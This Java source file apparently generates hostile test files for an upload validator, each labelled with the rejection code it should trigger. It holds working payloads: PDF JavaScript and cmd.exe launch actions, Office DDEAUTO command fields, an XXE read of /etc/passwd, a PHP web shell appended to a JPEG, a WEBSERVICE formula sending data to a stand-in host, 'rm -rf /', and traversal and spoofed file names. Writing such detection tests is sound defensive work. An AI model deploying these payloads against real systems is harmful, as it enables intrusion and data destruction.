package vn.vinhdanh.document;

import static vn.vinhdanh.document.OfficeFiles.changed;
import static vn.vinhdanh.document.OfficeFiles.docx;
import static vn.vinhdanh.document.OfficeFiles.put;
import static vn.vinhdanh.document.OfficeFiles.replace;
import static vn.vinhdanh.document.OfficeFiles.xlsx;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.Callable;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.STFldCharType;

/** Files that must be kept out, each with the sentence that it deserves. */
public final class HostileFiles {

    private static final String TYPES = "[Content_Types].xml";
    private static final String DOCUMENT = "word/document.xml";

    private HostileFiles() {}

    public static List<Sample> all() {
        List<Sample> all = new ArrayList<>();
        all.addAll(pdfs());
        all.addAll(brokenPdfs());
        all.addAll(waysOutOfPdf());
        all.addAll(office());
        all.addAll(insideOffice());
        all.addAll(commandsInOffice());
        all.addAll(brokenOffice());
        all.addAll(pictures());
        all.addAll(disguises());
        all.addAll(archives());
        all.addAll(names());
        return all;
    }

    private static List<Sample> pdfs() {
        List<Sample> samples = new ArrayList<>();
        COSDictionary script = Pdfs.dictionary("S", "JavaScript", "JS", new COSString("app.alert(1)"));
        COSDictionary launch = Pdfs.dictionary("S", "Launch", "F", new COSString("cmd.exe"));
        both(
                samples,
                "script when opened",
                d -> Pdfs.catalog(d).setItem(COSName.OPEN_ACTION, script),
                "PDF_HAS_SCRIPT");
        both(
                samples,
                "script in the name tree",
                d -> Pdfs.catalog(d)
                        .setItem(
                                COSName.NAMES,
                                Pdfs.dictionary(
                                        "JavaScript", Pdfs.dictionary("Names", list(new COSString("a"), script)))),
                "PDF_HAS_SCRIPT");
        both(samples, "script in a link", d -> Pdfs.annotation(d, "Subtype", "Link", "A", script), "PDF_HAS_SCRIPT");
        both(
                samples,
                "script when a page opens",
                d -> d.getPage(0).getCOSObject().setItem(COSName.AA, Pdfs.dictionary("O", script)),
                "PDF_HAS_SCRIPT");
        both(
                samples,
                "script of a form field",
                d -> Pdfs.annotation(d, "Subtype", "Widget", "FT", "Tx", "AA", Pdfs.dictionary("K", script)),
                "PDF_HAS_SCRIPT");
        both(
                samples,
                "script behind a harmless link",
                d -> Pdfs.annotation(
                        d,
                        "Subtype",
                        "Link",
                        "A",
                        Pdfs.dictionary("S", "URI", "URI", new COSString("https://laocai.gov.vn"), "Next", script)),
                "PDF_HAS_SCRIPT");
        both(samples, "script in a stream", HostileFiles::streamedScript, "PDF_HAS_SCRIPT");
        pdf(
                samples,
                "script under an escaped name",
                () -> Pdfs.raw("/OpenAction<</S/JavaScr#69pt/J#53(app.alert\\(1\\))>>"),
                "PDF_HAS_SCRIPT");
        both(
                samples,
                "program launched when opened",
                d -> Pdfs.catalog(d).setItem(COSName.OPEN_ACTION, launch),
                "PDF_LAUNCHES_PROGRAM");
        both(
                samples,
                "program launched by a link",
                d -> Pdfs.annotation(d, "Subtype", "Link", "A", launch),
                "PDF_LAUNCHES_PROGRAM");
        both(
                samples,
                "program launched and script run",
                d -> {
                    Pdfs.catalog(d).setItem(COSName.OPEN_ACTION, launch);
                    Pdfs.annotation(d, "Subtype", "Link", "A", script);
                },
                "PDF_LAUNCHES_PROGRAM",
                "PDF_HAS_SCRIPT");
        both(
                samples,
                "data imported",
                d -> Pdfs.annotation(d, "Subtype", "Link", "A", Pdfs.dictionary("S", "ImportData")),
                "PDF_LAUNCHES_PROGRAM");
        both(samples, "embedded file", HostileFiles::embedFile, "PDF_HAS_ATTACHMENT");
        both(
                samples,
                "file attached to a page",
                d -> Pdfs.annotation(d, "Subtype", "FileAttachment"),
                "PDF_HAS_ATTACHMENT");
        both(
                samples,
                "portfolio",
                d -> Pdfs.catalog(d).setItem(COSName.getPDFName("Collection"), Pdfs.dictionary("View", "T")),
                "PDF_HAS_ATTACHMENT");
        both(
                samples,
                "XFA form",
                d -> Pdfs.catalog(d)
                        .setItem(
                                COSName.ACRO_FORM,
                                Pdfs.dictionary("Fields", new COSArray(), "XFA", new COSString("<xdp/>"))),
                "PDF_HAS_XFA");
        for (String media : List.of("RichMedia", "Movie", "Sound", "Screen", "3D")) {
            pdf(
                    samples,
                    media + " annotation",
                    () -> Pdfs.with(d -> Pdfs.annotation(d, "Subtype", media)),
                    "PDF_HAS_MEDIA");
        }
        pdf(
                samples,
                "film started by a link",
                () -> Pdfs.with(d -> Pdfs.annotation(d, "Subtype", "Link", "A", Pdfs.dictionary("S", "Rendition"))),
                "PDF_HAS_MEDIA");
        pdf(samples, "password, 40 bit", () -> Pdfs.locked(40, false, "mo"), "PDF_ENCRYPTED");
        pdf(samples, "password, 128 bit", () -> Pdfs.locked(128, true, "mo"), "PDF_ENCRYPTED");
        pdf(samples, "password, 256 bit", () -> Pdfs.locked(256, true, "mật khẩu"), "PDF_ENCRYPTED");
        return samples;
    }

    private static List<Sample> waysOutOfPdf() {
        List<Sample> samples = new ArrayList<>();
        COSDictionary web = Pdfs.dictionary("S", "URI", "URI", new COSString("https://x.example/?doc=1"));
        both(
                samples,
                "link followed when opened",
                d -> Pdfs.catalog(d).setItem(COSName.OPEN_ACTION, web),
                "PDF_REACHES_OUT");
        both(
                samples,
                "link followed when a page opens",
                d -> d.getPage(0).getCOSObject().setItem(COSName.AA, Pdfs.dictionary("O", web)),
                "PDF_REACHES_OUT");
        both(
                samples,
                "another file opened by a link",
                d -> Pdfs.annotation(d, "Subtype", "Link", "A", Pdfs.dictionary("S", "GoToR", "F", new COSString("a"))),
                "PDF_REACHES_OUT");
        both(
                samples,
                "form that sends itself away",
                d -> Pdfs.annotation(
                        d,
                        "Subtype",
                        "Widget",
                        "A",
                        Pdfs.dictionary("S", "SubmitForm", "F", new COSString("https://x"))),
                "PDF_REACHES_OUT");
        for (String target :
                List.of("javascript:alert(1)", "\\\\x.example\\a", "file://x.example/a", "file:///C:/a/b.EXE")) {
            pdf(
                    samples,
                    "link to " + target,
                    () -> Pdfs.with(d -> Pdfs.annotation(
                            d, "Subtype", "Link", "A", Pdfs.dictionary("S", "URI", "URI", new COSString(target)))),
                    "PDF_REACHES_OUT");
        }
        pdf(
                samples,
                "contents kept in another file",
                () -> Pdfs.openly(d -> {
                    COSStream stream = new COSStream();
                    stream.setItem(COSName.F, new COSString("\\\\x.example\\a"));
                    d.getPage(0).getCOSObject().setItem(COSName.CONTENTS, stream);
                }),
                "PDF_REACHES_OUT");
        return samples;
    }

    private static List<Sample> brokenPdfs() {
        List<Sample> samples = new ArrayList<>();
        pdf(samples, "only a PDF's first and last line", () -> ascii("%PDF-1.4\n%%EOF"), "PDF_DAMAGED");
        pdf(samples, "only a PDF's first line", () -> ascii("%PDF-1.7"), "PDF_DAMAGED");
        pdf(samples, "noise after a PDF's first line", () -> joined(ascii("%PDF-1.7\n"), noise(5000)), "PDF_DAMAGED");
        pdf(samples, "half a PDF", () -> half(Pdfs.with(HostileFiles::manyPages)), "PDF_DAMAGED");
        pdf(samples, "half an open PDF", () -> half(Pdfs.openly(HostileFiles::manyPages)), "PDF_DAMAGED");
        pdf(samples, "PDF without its last lines", () -> cut(Pdfs.openly(HostileFiles::manyPages), 300), "PDF_DAMAGED");
        pdf(samples, "PDF without a page", () -> Pdfs.openly(d -> d.removePage(0)), "PDF_DAMAGED");
        pdf(
                samples,
                "PDF whose page is missing",
                () -> ascii(new String(Pdfs.raw(""), StandardCharsets.ISO_8859_1).replace("Kids[3 ", "Kids[9 ")),
                "PDF_DAMAGED");
        pdf(
                samples,
                "PDF whose objects unpack to 200 MB",
                () -> Pdfs.packedCatalog(200L << 20, "/FlateDecode"),
                "PDF_TOO_COMPLEX");
        pdf(
                samples,
                "PDF whose objects are packed twice",
                () -> Pdfs.packedCatalog(1000, "[/FlateDecode/FlateDecode]"),
                "PDF_TOO_COMPLEX");
        pdf(samples, "PDF nested without end", () -> Pdfs.raw("/Deep " + "[".repeat(300_000)), "PDF_DAMAGED");
        pdf(
                samples,
                "PDF of too many objects",
                () -> Pdfs.raw("/Many[" + "[]".repeat(600_000) + "]"),
                "PDF_TOO_COMPLEX");
        pdf(
                samples,
                "web page before a PDF",
                () -> joined(ascii("<html><script>alert(1)</script>"), Pdfs.plain()),
                "FILE_IS_TWO_FILES");
        pdf(samples, "text before a PDF", () -> joined(ascii("Kinh gui"), Pdfs.plain()), "FILE_IS_TWO_FILES");
        pdf(
                samples,
                "ZIP before a PDF",
                () -> joined(OfficeFiles.zip(Map.of("a", ascii("a")), ZipOutputStream.STORED), Pdfs.plain()),
                "FILE_IS_TWO_FILES");
        pdf(samples, "program before a PDF", () -> joined(program(), Pdfs.plain()), "FILE_IS_TWO_FILES");
        pdf(samples, "ZIP behind a PDF", () -> joined(Pdfs.plain(), docx()), "FILE_IS_TWO_FILES");
        return samples;
    }

    private static List<Sample> office() {
        String docm = "application/vnd.ms-word.document.macroEnabled.main+xml";
        String docxMain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
        String xlsm = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
        String xlsxMain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
        String relations = "word/_rels/document.xml.rels";
        String remote = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        return new ArrayList<>(List.of(
                word("macros in a DOCX", () -> changed(docx(), put("word/vbaProject.bin", "x")), "OFFICE_HAS_MACROS"),
                word(
                        "macros in other letters",
                        () -> changed(docx(), put("word/VBAPROJECT.BIN", "x")),
                        "OFFICE_HAS_MACROS"),
                word("DOCM called DOCX", () -> changed(docx(), replace(TYPES, docxMain, docm)), "OFFICE_HAS_MACROS"),
                Sample.of(
                        "DOCM under its name",
                        "bao-cao.docm",
                        () -> changed(docx(), replace(TYPES, docxMain, docm)),
                        "OFFICE_HAS_MACROS"),
                excel("macros in an XLSX", () -> changed(xlsx(), put("xl/vbaProject.bin", "x")), "OFFICE_HAS_MACROS"),
                excel("XLSM called XLSX", () -> changed(xlsx(), replace(TYPES, xlsxMain, xlsm)), "OFFICE_HAS_MACROS"),
                Sample.of(
                        "XLSM under its name",
                        "danh-sach.xlsm",
                        () -> changed(xlsx(), replace(TYPES, xlsxMain, xlsm)),
                        "OFFICE_HAS_MACROS"),
                excel(
                        "Excel 4 macro sheet",
                        () -> changed(xlsx(), put("xl/macrosheets/sheet1.xml", "<x/>")),
                        "OFFICE_HAS_MACROS"),
                word("ActiveX", () -> changed(docx(), put("word/activeX/activeX1.xml", "<x/>")), "OFFICE_HAS_MACROS"),
                word(
                        "template fetched from the net",
                        () -> changed(
                                docx(),
                                put(
                                        "word/_rels/settings.xml.rels",
                                        "<Relationships><Relationship Id='r' TargetMode='External' Type='" + remote
                                                + "attachedTemplate' Target='https://x.example/a.dotm'/></Relationships>")),
                        "OFFICE_LOADS_FROM_NETWORK"),
                word(
                        "object fetched from the net",
                        () -> changed(
                                docx(),
                                put(
                                        relations,
                                        "<Relationships><Relationship Id='r' TargetMode='External' Type='" + remote
                                                + "oleObject' Target='mhtml:https://x.example/a!b'/></Relationships>")),
                        "OFFICE_LOADS_FROM_NETWORK"),
                word(
                        "password on a DOCX",
                        () -> OfficeFiles.encrypted(docx(), EncryptionMode.agile),
                        "OFFICE_ENCRYPTED"),
                word(
                        "older password on a DOCX",
                        () -> OfficeFiles.encrypted(docx(), EncryptionMode.standard),
                        "OFFICE_ENCRYPTED"),
                excel(
                        "password on an XLSX",
                        () -> OfficeFiles.encrypted(xlsx(), EncryptionMode.agile),
                        "OFFICE_ENCRYPTED"),
                word("ZIP encryption", () -> zipEncrypted(docx()), "OFFICE_ENCRYPTED"),
                word("entity bomb", () -> changed(docx(), put(DOCUMENT, OfficeFiles.BOMB)), "OFFICE_HAS_ENTITIES"),
                excel(
                        "entity bomb in a sheet",
                        () -> changed(xlsx(), put("xl/worksheets/sheet1.xml", OfficeFiles.BOMB)),
                        "OFFICE_HAS_ENTITIES"),
                word(
                        "file of the server as entity",
                        () -> changed(
                                docx(),
                                put(DOCUMENT, "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>")),
                        "OFFICE_HAS_ENTITIES"),
                word(
                        "document type of the net",
                        () -> changed(
                                docx(), put("docProps/app.xml", "<!DOCTYPE x SYSTEM \"http://127.0.0.1/x\"><x/>")),
                        "OFFICE_HAS_ENTITIES"),
                word(
                        "document type in relationships",
                        () -> changed(docx(), put(relations, "<!DOCTYPE x><Relationships/>")),
                        "OFFICE_HAS_ENTITIES"),
                word(
                        "document type in UTF-16",
                        () -> changed(
                                docx(),
                                parts -> parts.put(
                                        "docProps/core.xml", "<!DOCTYPE x><x/>".getBytes(StandardCharsets.UTF_16))),
                        "OFFICE_HAS_ENTITIES"),
                word("part of 300 MB", () -> OfficeFiles.swollen(1, 300L << 20), "OFFICE_IS_BOMB"),
                word("parts of 19 MB each", () -> OfficeFiles.swollen(24, 19L << 20), "OFFICE_IS_BOMB"),
                word("ten thousand parts", () -> OfficeFiles.swollen(10_001, 0), "OFFICE_IS_BOMB"),
                word(
                        "text of 20 MB without a tag",
                        () -> changed(docx(), put("word/x.xml", "<x>" + noiseText(9 << 20) + "</x>")),
                        "OFFICE_IS_BOMB")));
    }

    private static List<Sample> insideOffice() {
        return List.of(
                word(
                        "OLE object",
                        () -> changed(
                                docx(),
                                add("oleObject", "embeddings/oleObject1.bin"),
                                parts -> parts.put("word/embeddings/oleObject1.bin", xls())),
                        "OFFICE_HAS_EMBEDDED_FILE"),
                word(
                        "OLE object that nothing names",
                        () -> changed(docx(), parts -> parts.put("word/media/image1.emf", xls())),
                        "OFFICE_HAS_EMBEDDED_FILE"),
                word(
                        "workbook to open by a double click",
                        () -> changed(
                                docx(),
                                add("package", "embeddings/so-lieu.xlsx"),
                                parts -> parts.put("word/embeddings/so-lieu.xlsx", xlsx())),
                        "OFFICE_HAS_EMBEDDED_FILE"),
                word(
                        "archive inside",
                        () -> changed(docx(), parts -> parts.put("word/media/anh.png", zip())),
                        "OFFICE_HAS_EMBEDDED_FILE"),
                excel(
                        "program inside",
                        () -> changed(xlsx(), parts -> parts.put("xl/media/anh.png", program())),
                        "OFFICE_HAS_EMBEDDED_FILE"),
                word(
                        "PDF inside",
                        () -> changed(docx(), parts -> parts.put("word/embeddings/a.bin", Pdfs.plain())),
                        "OFFICE_HAS_EMBEDDED_FILE"),
                word(
                        "macros in the table of a chart",
                        () -> changed(
                                docx(HarmlessFiles::chart),
                                tableOfChart(() -> changed(xlsx(), put("xl/vbaProject.bin", "x")))),
                        "OFFICE_HAS_EMBEDDED_FILE"),
                word(
                        "chart whose table is an archive",
                        () -> changed(docx(HarmlessFiles::chart), tableOfChart(HostileFiles::zip)),
                        "OFFICE_HAS_EMBEDDED_FILE"),
                word(
                        "web page taken in as text",
                        () -> changed(
                                docx(),
                                add("aFChunk", "a.html"),
                                put("word/a.html", "<html><script>alert(1)</script></html>")),
                        "OFFICE_HAS_EMBEDDED_FILE"),
                excel(
                        "data connection",
                        () -> changed(xlsx(), put("xl/connections.xml", "<connections/>"), connected("connections")),
                        "OFFICE_HAS_DATA_CONNECTION"),
                excel(
                        "table filled by a query",
                        () -> changed(xlsx(), put("xl/queryTables/a.xml", "<q/>"), connected("queryTable")),
                        "OFFICE_HAS_DATA_CONNECTION"),
                excel(
                        "Power Query",
                        () -> changed(
                                xlsx(), put("customXml/item1.xml", "<DataMashup xmlns='urn:m'>UEsDBA==</DataMashup>")),
                        "OFFICE_HAS_DATA_CONNECTION"),
                word(
                        "object linked to a file of the writer's computer",
                        () -> changed(docx(), external("oleObject", "file:///C:\\so-lieu.xlsx")),
                        "OFFICE_HAS_DATA_CONNECTION"));
    }

    private static List<Sample> commandsInOffice() {
        List<Sample> samples = new ArrayList<>();
        for (String field : List.of(
                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", " dde excel a b", "\"DDEAUTO\" cmd a")) {
            samples.add(word("field " + field, () -> docx(d -> field(d, field)), "OFFICE_RUNS_COMMANDS"));
        }
        samples.add(word(
                "field cut over runs", () -> docx(d -> field(d, "DD", "EAU", "TO cmd.exe")), "OFFICE_RUNS_COMMANDS"));
        samples.add(word(
                "field whose kind another field computes",
                () -> docx(d -> field(d, "{", " QUOTE 68 68 69 65 85 84 79 ", "}", " c:\\cmd.exe")),
                "OFFICE_RUNS_COMMANDS"));
        samples.add(word(
                "field in one tag",
                () -> docx(d -> d.createParagraph().getCTP().addNewFldSimple().setInstr(" DDE cmd a ")),
                "OFFICE_RUNS_COMMANDS"));
        samples.add(word(
                "field in a header",
                () -> changed(
                        docx(),
                        put(
                                "word/header1.xml",
                                "<w:hdr xmlns:w='w'><w:instrText>DDE&#x41;UTO cmd</w:instrText></w:hdr>")),
                "OFFICE_RUNS_COMMANDS"));
        samples.add(excel(
                "DDE link",
                () -> changed(
                        xlsx(),
                        put(
                                "xl/externalLinks/externalLink1.xml",
                                "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>")),
                "OFFICE_RUNS_COMMANDS"));
        samples.add(excel(
                "DDE formula",
                () -> changed(
                        xlsx(),
                        put("xl/worksheets/sheet1.xml", "<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>")),
                "OFFICE_RUNS_COMMANDS"));
        samples.add(excel(
                "formula that asks the net",
                () -> xlsx(w -> w.getSheetAt(0)
                        .createRow(1)
                        .createCell(0)
                        .setCellFormula("_xlfn.WEBSERVICE(\"https://x.example/?a=\"&A1)")),
                "OFFICE_LOADS_FROM_NETWORK"));
        for (String target : List.of("javascript:alert(1)", "ms-msdt:/id", "a.exe", "file:///C:\\a\\b.PS1")) {
            samples.add(word(
                    "link in a DOCX to " + target,
                    () -> changed(docx(), external("hyperlink", target)),
                    "OFFICE_RUNS_COMMANDS"));
        }
        samples.add(word(
                "picture on another computer",
                () -> changed(docx(), external("image", "file:///\\\\x.example\\a.png")),
                "OFFICE_LOADS_FROM_NETWORK"));
        samples.add(word(
                "template on another computer",
                () -> changed(docx(), external("attachedTemplate", "\\\\x.example\\a.dotm")),
                "OFFICE_LOADS_FROM_NETWORK"));
        return samples;
    }

    private static List<Sample> archives() {
        List<Sample> samples = new ArrayList<>();
        byte[] rar = joined(ascii("Rar!\u001a\u0007\u0001\0"), noise(300));
        byte[] sevenZip = joined(ascii("7z\u00bc\u00af'\u001c\0\4"), noise(300));
        pdf(samples, "RAR called PDF", () -> rar, "FILE_IS_ARCHIVE");
        pdf(samples, "7z called PDF", () -> sevenZip, "FILE_IS_ARCHIVE");
        pdf(samples, "GZIP called PDF", () -> joined(ascii("\u001f\u008b\b\0"), noise(300)), "FILE_IS_ARCHIVE");
        pdf(samples, "ZIP called PDF", HostileFiles::zip, "FILE_IS_ARCHIVE");
        samples.add(Sample.of("ZIP under its name", "ho-so.zip", HostileFiles::zip, "FILE_IS_ARCHIVE"));
        samples.add(word("RAR called DOCX", () -> rar, "FILE_IS_ARCHIVE"));
        pdf(samples, "RAR behind a PDF", () -> joined(Pdfs.plain(), rar), "FILE_IS_TWO_FILES");
        samples.add(
                Sample.of("7z behind a JPEG", "anh.jpg", () -> joined(Pictures.jpeg(), sevenZip), "FILE_IS_TWO_FILES"));
        samples.add(word("two DOCX behind each other", () -> joined(docx(), docx(d -> {})), "FILE_IS_TWO_FILES"));
        samples.add(word("program behind a DOCX", () -> joined(docx(), program()), "FILE_IS_TWO_FILES"));
        samples.add(word("web page behind a DOCX", () -> joined(docx(), ascii("<html>")), "FILE_IS_TWO_FILES"));
        return samples;
    }

    private static List<Sample> brokenOffice() {
        return new ArrayList<>(List.of(
                word("main part missing", () -> changed(docx(), parts -> parts.remove(DOCUMENT)), "OFFICE_DAMAGED"),
                excel(
                        "workbook missing",
                        () -> changed(xlsx(), parts -> parts.remove("xl/workbook.xml")),
                        "OFFICE_DAMAGED"),
                word("types missing", () -> changed(docx(), parts -> parts.remove(TYPES)), "OFFICE_DAMAGED"),
                word(
                        "relationships missing",
                        () -> changed(docx(), parts -> parts.remove("_rels/.rels")),
                        "OFFICE_DAMAGED"),
                word("half a DOCX", () -> half(docx()), "OFFICE_DAMAGED"),
                excel("half an XLSX", () -> half(xlsx()), "OFFICE_DAMAGED"),
                word("DOCX with a hole", () -> holed(docx()), "OFFICE_DAMAGED"),
                word("picture changed on the way", HostileFiles::pictureChanged, "OFFICE_DAMAGED"),
                word("text cut off", () -> changed(docx(), put(DOCUMENT, "<document><body>")), "OFFICE_DAMAGED"),
                word("empty main part", () -> changed(docx(), put(DOCUMENT, "")), "OFFICE_DAMAGED"),
                word(
                        "nested without end",
                        () -> changed(docx(), put(DOCUMENT, "<a>".repeat(50_000) + "</a>".repeat(50_000))),
                        "OFFICE_DAMAGED"),
                word("part outside the file", () -> changed(docx(), put("../../evil.xml", "<x/>")), "OFFICE_DAMAGED"),
                word(
                        "part twice in other letters",
                        () -> changed(docx(), put("word/DOCUMENT.xml", "<x/>")),
                        "OFFICE_DAMAGED"),
                Sample.of("old XLS", "danh-sach.xls", HostileFiles::xls, "FILE_IS_OLD_OFFICE"),
                excel("old XLS called XLSX", HostileFiles::xls, "FILE_IS_OLD_OFFICE"),
                word("ZIP called DOCX", HostileFiles::zip, "FILE_IS_ARCHIVE"),
                word("slides called DOCX", HostileFiles::pptx, "FILE_TYPE_NOT_ALLOWED"),
                excel("DOCX called XLSX", OfficeFiles::docx, "FILE_NAME_MISLEADS"),
                word("XLSX called DOCX", OfficeFiles::xlsx, "FILE_NAME_MISLEADS"),
                word("PDF called DOCX", Pdfs::plain, "FILE_NAME_MISLEADS")));
    }

    private static List<Sample> pictures() {
        return List.of(
                Sample.of("half a JPEG", "anh.jpg", () -> half(Pictures.jpeg()), "IMAGE_DAMAGED"),
                Sample.of(
                        "half a progressive JPEG", "anh.jpg", () -> half(Pictures.progressive("jpg")), "IMAGE_DAMAGED"),
                Sample.of("head of a JPEG", "anh.jpg", () -> Arrays.copyOf(Pictures.jpeg(), 20), "IMAGE_DAMAGED"),
                Sample.of("half a PNG", "anh.png", () -> half(Pictures.png()), "IMAGE_DAMAGED"),
                Sample.of("PNG with a hole", "anh.png", () -> holed(Pictures.png()), "IMAGE_DAMAGED"),
                Sample.of("head of a PNG", "anh.png", () -> Arrays.copyOf(Pictures.png(), 33), "IMAGE_DAMAGED"),
                Sample.of(
                        "PNG of ten billion pixels",
                        "anh.png",
                        () -> Pictures.announcing(100_000, 100_000),
                        "IMAGE_TOO_MANY_PIXELS"),
                Sample.of("PNG taller than it is", "anh.png", () -> Pictures.announcing(320, 480), "IMAGE_DAMAGED"),
                Sample.of("ZIP behind a JPEG", "anh.jpg", () -> joined(Pictures.jpeg(), docx()), "FILE_IS_TWO_FILES"),
                Sample.of("ZIP behind a PNG", "anh.png", () -> joined(Pictures.png(), docx()), "FILE_IS_TWO_FILES"),
                Sample.of(
                        "PDF behind a JPEG",
                        "anh.jpg",
                        () -> joined(Pictures.jpeg(), Pdfs.plain()),
                        "FILE_IS_TWO_FILES"),
                Sample.of(
                        "PHP behind a JPEG",
                        "anh.jpg",
                        () -> joined(Pictures.jpeg(), ascii("<?php system($_GET[0]);")),
                        "IMAGE_HAS_CODE"),
                Sample.of(
                        "script behind a PNG",
                        "anh.png",
                        () -> joined(Pictures.png(), ascii("<SCRIPT>alert(1)</SCRIPT>")),
                        "IMAGE_HAS_CODE"),
                Sample.of("PNG called JPG", "anh.jpg", Pictures::png, "FILE_NAME_MISLEADS"),
                Sample.of("JPEG called PDF", "anh.pdf", Pictures::jpeg, "FILE_NAME_MISLEADS"),
                Sample.of(
                        "GIF called PNG",
                        "anh.png",
                        () -> Pictures.written("gif", 20, 20, BufferedImage.TYPE_BYTE_INDEXED),
                        "FILE_TYPE_NOT_ALLOWED"),
                Sample.of(
                        "BMP called JPG",
                        "anh.jpg",
                        () -> Pictures.written("bmp", 20, 20, BufferedImage.TYPE_INT_RGB),
                        "FILE_TYPE_NOT_ALLOWED"),
                Sample.of(
                        "drawing with script called PNG",
                        "anh.png",
                        () -> ascii("<?xml version='1.0'?><svg onload='alert(1)'/>"),
                        "FILE_IS_WEB_PAGE"));
    }

    private static List<Sample> disguises() {
        List<Sample> samples = new ArrayList<>();
        pdf(samples, "Windows program called PDF", HostileFiles::program, "FILE_IS_PROGRAM");
        samples.add(
                Sample.of("Windows program under its name", "cai-dat.exe", HostileFiles::program, "FILE_IS_PROGRAM"));
        samples.add(
                Sample.of("program with two endings", "bien-ban.pdf.exe", HostileFiles::program, "FILE_IS_PROGRAM"));
        pdf(
                samples,
                "Linux program called PDF",
                () -> joined(ascii("\u007fELF\2\1\1"), new byte[99]),
                "FILE_IS_PROGRAM");
        samples.add(word("shell script called DOCX", () -> ascii("#!/bin/sh\nrm -rf /\n"), "FILE_IS_PROGRAM"));
        pdf(samples, "batch file called PDF", () -> ascii("@ECHO OFF\r\nformat c:\r\n"), "FILE_IS_PROGRAM");
        pdf(
                samples,
                "Java class called PDF",
                () -> joined(new byte[] {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE}, new byte[99]),
                "FILE_IS_PROGRAM");
        pdf(
                samples,
                "web page called PDF",
                () -> ascii("<!DOCTYPE html><html><script>alert(1)</script></html>"),
                "FILE_IS_WEB_PAGE");
        pdf(
                samples,
                "web page in UTF-16 called PDF",
                () -> "<html><script>alert(1)</script>".getBytes(StandardCharsets.UTF_16),
                "FILE_IS_WEB_PAGE");
        samples.add(word("web page called DOCX", () -> ascii("\n\n <HTML><body>x</body></HTML>"), "FILE_IS_WEB_PAGE"));
        pdf(samples, "PHP called PDF", () -> ascii("<?php system($_GET[0]); ?>"), "FILE_IS_WEB_PAGE");
        pdf(samples, "JavaScript called PDF", () -> ascii("var a = new ActiveXObject('x');"), "FILE_TYPE_NOT_ALLOWED");
        pdf(samples, "text called PDF", () -> ascii("Kinh gui UBND thanh pho"), "FILE_TYPE_NOT_ALLOWED");
        pdf(samples, "noise called PDF", () -> noise(4000), "FILE_TYPE_NOT_ALLOWED");
        samples.add(word("RTF called DOCX", () -> ascii("{\\rtf1\\ansi Bao cao}"), "FILE_TYPE_NOT_ALLOWED"));
        pdf(samples, "empty file", () -> new byte[0], "FILE_EMPTY");
        pdf(samples, "21 MB", () -> new byte[21 << 20], "FILE_TOO_LARGE");
        return samples;
    }

    private static List<Sample> names() {
        List<Sample> samples = new ArrayList<>();
        named(samples, null, "NAME_MISSING", "FILE_NAME_MISLEADS");
        named(samples, "", "NAME_MISSING", "FILE_NAME_MISLEADS");
        named(samples, ".pdf", "NAME_MISSING");
        named(samples, "../../etc/passwd.pdf", "NAME_HAS_PATH");
        named(samples, "C:\\Users\\a\\to-trinh.pdf", "NAME_HAS_PATH", "NAME_HAS_FORBIDDEN_CHARACTERS");
        named(samples, "..%2F..%2Fto-trinh.pdf", "NAME_HAS_PATH");
        named(samples, "to\r\ntrinh.pdf", "NAME_HAS_HIDDEN_CHARACTERS");
        named(samples, "to-trinh.exe\0.pdf", "NAME_HAS_HIDDEN_CHARACTERS");
        named(samples, "to\u200Btrinh.pdf", "NAME_HAS_HIDDEN_CHARACTERS");
        named(samples, "to\u2028trinh.pdf", "NAME_HAS_HIDDEN_CHARACTERS");
        named(samples, "to\uD800trinh.pdf", "NAME_HAS_HIDDEN_CHARACTERS");
        named(samples, "bao\u202Efdp.exe.pdf", "NAME_HAS_DIRECTION_CHARACTERS");
        named(samples, "bao\u2067cao.pdf", "NAME_HAS_DIRECTION_CHARACTERS");
        named(samples, "a".repeat(197) + ".pdf", "NAME_TOO_LONG");
        named(samples, "ả".repeat(300) + ".pdf", "NAME_TOO_LONG");
        named(samples, "to-trinh.pdf.", "NAME_ENDS_BADLY", "FILE_NAME_MISLEADS");
        named(samples, "to-trinh.pdf ", "NAME_ENDS_BADLY", "FILE_NAME_MISLEADS");
        named(samples, " to-trinh.pdf", "NAME_ENDS_BADLY");
        named(samples, "CON.pdf", "NAME_RESERVED");
        named(samples, "com1.to-trinh.pdf", "NAME_RESERVED");
        named(samples, "<script>.pdf", "NAME_HAS_FORBIDDEN_CHARACTERS");
        named(samples, "to-trinh.pdf:an.pdf", "NAME_HAS_FORBIDDEN_CHARACTERS");
        named(samples, "to-trinh", "FILE_NAME_MISLEADS");
        named(samples, "to-trinh.exe", "FILE_NAME_MISLEADS");
        return samples;
    }

    // ---------------------------------------------------------------- making them

    private static void both(List<Sample> samples, String title, Pdfs.Change change, String... codes) {
        pdf(samples, title, () -> Pdfs.openly(change), codes);
        pdf(samples, title + ", packed", () -> Pdfs.with(change), codes);
    }

    private static void pdf(List<Sample> samples, String title, Callable<byte[]> maker, String... codes) {
        samples.add(Sample.of(title, "to-trinh.pdf", maker, codes));
    }

    private static Sample word(String title, Callable<byte[]> maker, String... codes) {
        return Sample.of(title, "bao-cao.docx", maker, codes);
    }

    private static Sample excel(String title, Callable<byte[]> maker, String... codes) {
        return Sample.of(title, "danh-sach.xlsx", maker, codes);
    }

    private static void named(List<Sample> samples, String name, String... codes) {
